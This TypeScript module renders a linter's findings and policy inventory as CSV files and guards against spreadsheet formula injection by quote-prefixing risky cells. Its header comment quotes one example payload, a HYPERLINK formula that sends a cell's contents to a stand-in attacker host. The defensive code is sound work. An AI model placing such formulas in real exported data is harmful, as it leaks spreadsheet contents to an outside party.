/**
 * The findings and the policy inventory as CSV for a tracker or a spreadsheet (RFC 4180): records end in CRLF, a
 * field holding a comma, a double quote or a line break is quoted and its quotes doubled, and the file starts with a
 * UTF-8 byte-order mark so that Excel reads accents (without it, Excel guesses the system's code page).
 *
 * Formula injection (CWE-1236): Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-`,
 * `@`, a tab or a carriage return. A tenant value such as `=HYPERLINK("https://evil.example/?"&A1,"open")` in a policy
 * name would become a live formula, so every text field that starts with one of them is prefixed with a single quote,
 * as OWASP advises: Excel shows the text as it is, and a tracker import sees the quote. Numbers are calint's own (line,
 * column, counts) and never negative.
 */
import type { LintResult } from '../../engine/result-types.js';
import { type Cell, type Table, findingsTable, policiesTable } from './rows.js';

const BOM = '\ufeff';
const FORMULA_START = /^[=+\-@\t\r]/;

/** A text cell that no spreadsheet will evaluate. */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

function field(cell: Cell): string {
  if (cell === null) return '';
  if (typeof cell === 'number') return String(cell);
  const text = neutralizeFormula(cell);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One table as a CSV document: a header record, then one record per row. */
export function tableCsv(table: Table): string {
  const records = [table.columns.map((c) => field(c.header)), ...table.rows.map((row) => row.map(field))];
  return BOM + records.map((r) => `${r.join(',')}\r\n`).join('');
}

/** The two CSV files of `calint report --format csv`: calint-findings.csv and calint-policies.csv. */
export function renderCsv(result: LintResult): { findings: string; policies: string } {
  return { findings: tableCsv(findingsTable(result)), policies: tableCsv(policiesTable(result)) };
}
